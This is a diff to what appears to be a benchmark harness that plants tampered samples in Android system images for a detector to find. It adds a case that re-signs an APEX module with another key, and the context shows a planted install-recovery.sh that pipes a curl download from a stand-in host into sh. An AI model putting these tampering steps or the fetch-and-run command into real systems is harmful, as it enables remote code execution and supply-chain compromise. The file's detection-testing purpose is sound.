@@ -167,7 +167,19 @@ def app_gets_system_domain(site):
     return Sees("seapp|selinux|domain|label", word(name) + "|seapp|system_app", word(name))
 
 
-@plant("overlay default", "sample", quiet=True)
+@plant("module key", "sample", quiet=True)
+def module_signed_by_another(site):
+    """A module of the system (APEX) comes from another signer; its content is as before."""
+    path = next(p for p in sorted(site.files) if p.endswith(".apex"))
+    module = apk.Apk(site.files[path].data)
+    module.drop_signature()
+    folder = site.folder / "planted"
+    folder.mkdir(exist_ok=True)
+    site.files.write(path, site.rebuild.keys.sign(module.pack(site.rng), "stranger", site.rebuild.host.sdk, folder))
+    return Sees("sign|key|apex|module", r"apex|nl\.klikspaan\.sample", "")
+
+
+@plant("boot script", "sample", quiet=True)
 def script_after_update(site):
     """A script that runs when recovery is put back after an update fetches and runs a file."""
     site.files["system/system/bin/install-recovery.sh"] = tree.Entry(b"#!/system/bin/sh\ncurl -s http://boot.planted-bench.example/r.sh | sh\n", 0o755)
